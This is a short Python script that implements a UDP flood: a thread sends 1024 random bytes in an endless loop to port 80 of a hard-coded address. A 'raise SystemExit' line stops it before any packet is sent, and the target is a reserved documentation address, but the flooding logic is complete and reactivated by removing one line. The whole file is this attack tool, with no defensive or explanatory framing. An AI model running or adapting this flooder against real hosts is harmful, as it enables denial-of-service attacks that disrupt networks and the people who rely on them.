import random
import socket
import threading

raise SystemExit
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def go():
    while True:
        s.sendto(random._urandom(1024), ("192.0.2.1", 80))


threading.Thread(target=go).start()
